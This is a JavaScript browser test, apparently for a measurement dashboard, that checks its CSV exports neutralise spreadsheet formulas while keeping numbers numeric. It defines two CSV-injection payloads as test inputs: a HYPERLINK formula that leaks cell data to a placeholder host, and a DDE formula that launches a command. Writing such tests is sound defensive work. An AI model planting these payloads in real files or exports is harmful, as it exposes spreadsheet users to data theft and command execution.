// Browser scenario: the dashboard's CSV downloads (the list, a measurement's figures and its
// samples) of an upload whose test id and file name are spreadsheet formulas. Each such cell
// starts with "'" (shown as text, never run); the numbers, negative deviations included, stay
// numbers.
//   node tests/browser/dashboard/csv.test.mjs PATH/TO/kinemetricd [OUTPUT_DIR]

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { dbbFile, withDashboard } from '../lib/harness.mjs';

const MACHINE = 'browser-csv-vmc';
const TEST_ID = '=HYPERLINK("http://example.invalid/?"&A1)';
const FILENAME = "=cmd|' /C calc'!A0";

// RFC 4180 rows of `text` (quoted cells may hold commas, quotes and line ends).
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; ++i) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        ++i;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      ++i;
    } else cell += c;
  }
  assert.equal(row.length + cell.length, 0, 'the CSV ends with a line end');
  return rows;
}

async function download(page, selector) {
  const [d] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return readFileSync(await d.path(), 'utf8');
}

test('CSV downloads neutralise formulas and keep numbers', { timeout: 60_000 }, async () => {
  await withDashboard('csv', async ({ api, page, open }) => {
    const text = dbbFile({ machine: MACHINE, test: TEST_ID, direction: 'ccw', timestamp: '2026-04-01T08:00:00Z' });
    const stored = await api.upload(text, FILENAME);
    const m = await api.get(`/api/v1/measurements/${stored.id}`);
    assert.equal(m.test_id, TEST_ID, 'the server stores the test id as sent');
    assert.equal(m.filename, FILENAME, 'and the file name');
    const listed = (await api.get(`/api/v1/measurements?machine_id=${MACHINE}`)).items[0];

    // The list: the test id and file name as text, the id and key result as numbers.
    await open(`#/machines/${MACHINE}`);
    await page.waitForSelector(`#measurements [data-testid="measurement-item"][data-id="${stored.id}"]`);
    const list = parseCsv(await download(page, '[data-testid="list-csv"]'));
    assert.deepEqual(list[0], ['id', 'kind', 'test_id', 'direction', 'measured_at', 'uploaded_at', 'filename', 'key_result', 'value', 'unit']);
    assert.equal(list.length, 2, JSON.stringify(list));
    const cells = Object.fromEntries(list[0].map((k, i) => [k, list[1][i]]));
    assert.equal(cells.test_id, `'${TEST_ID}`);
    assert.equal(cells.filename, `'${FILENAME}`);
    assert.equal(cells.id, String(stored.id));
    assert.equal(Number(cells.value), listed.key_result.value);
    for (const [k, v] of Object.entries(cells)) assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${k}: ${v}`);

    // The measurement's figures and its samples: negative deviations stay numbers.
    await open(`#/measurements/${stored.id}`);
    await page.waitForSelector(`#detail[data-view="dbb"][data-measurement-id="${stored.id}"]`);
    const figures = parseCsv(await download(page, '[data-testid="figures-csv"]'));
    for (const r of figures) for (const v of r) assert.doesNotMatch(v, /^[=+@\t\r]/, v);
    const samples = parseCsv(await download(page, '[data-testid="trace-csv"]'));
    assert.deepEqual(samples[0], Object.keys(m.samples));
    const dr = samples[0].indexOf('dr_um');
    assert.ok(dr >= 0, samples[0].join(','));
    const values = samples.slice(1).map((r) => r[dr]);
    assert.equal(values.length, m.samples.dr_um.length);
    assert.ok(values.some((v) => v.startsWith('-')), 'some negative deviations');
    values.forEach((v, i) => assert.equal(Number(v), m.samples.dr_um[i], `sample ${i}: ${v}`));
  });
});
